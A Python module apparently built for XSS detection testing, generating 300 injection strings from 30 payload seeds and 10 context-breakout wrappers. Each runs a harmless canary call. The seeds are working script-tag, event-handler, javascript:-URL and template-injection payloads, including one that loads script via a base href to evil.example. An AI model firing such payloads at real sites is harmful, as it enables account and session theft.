"""Texts that would run in a page that took them for markup. Each names itself when it does."""

SEEDS = (
    "<script>{run}</script>",
    "<img src=x onerror={run}>",
    '<img src="x" onerror="{run}">',
    "<svg onload={run}>",
    "<svg><script>{run}</script></svg>",
    "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<body onload={run}>",
    "<iframe src='javascript:{run}'></iframe>",
    "<iframe srcdoc='<script>parent.{run}</script>'></iframe>",
    "<details open ontoggle={run}><summary>x</summary></details>",
    "<video><source onerror={run}></video>",
    "<audio src=x onerror={run}>",
    "<input autofocus onfocus={run}>",
    "<select autofocus onfocus={run}></select>",
    "<textarea autofocus onfocus={run}></textarea>",
    "<marquee onstart={run}>x</marquee>",
    "<object data='javascript:{run}'></object>",
    "<embed src='javascript:{run}'>",
    "<math><mtext><script>{run}</script></mtext></math>",
    "<a href='javascript:{run}' autofocus onfocus={run}>x</a>",
    "<link rel=stylesheet href='javascript:{run}' onerror={run}>",
    "<style>@import 'javascript:{run}';</style><img src=x onerror={run}>",
    "<base href='http://evil.example/'><script src='/static/dom.js?{mark}'></script>",
    "<meta http-equiv=refresh content='0;url=javascript:{run}'>",
    "<template><script>{run}</script></template><img src=x onerror={run}>",
    "javascript:{run}",
    "[x](javascript:{run}) ![x](x onerror={run})",
    "{{{{constructor.constructor('{run}')()}}}} ${{{run}}} #{{{run}}}",
    "&lt;script&gt;{run}&lt;/script&gt; &#60;img src=x onerror={run}&#62;",
    "\\u003cscript\\u003e{run}\\u003c/script\\u003e",
)
WRAPS = (
    "{text}",
    '"> {text}',
    "'> {text}",
    "</textarea></title></script></style>{text}",
    "--> {text} <!--",
    "]]> {text}",
    "`{text}`",
    "```html\n{text}\n```",
    "**{text}**",
    "- {text}",
)


def strings() -> list[tuple[str, str]]:
    """Three hundred, each with the word by which it is told from the others."""
    made = [(seed, wrap) for wrap in WRAPS for seed in SEEDS]
    return [
        (f"x{number}x", wrap.format(text=seed.format(run=f"ran(`x{number}x`)", mark=f"x{number}x")))
        for number, (seed, wrap) in enumerate(made)
    ]
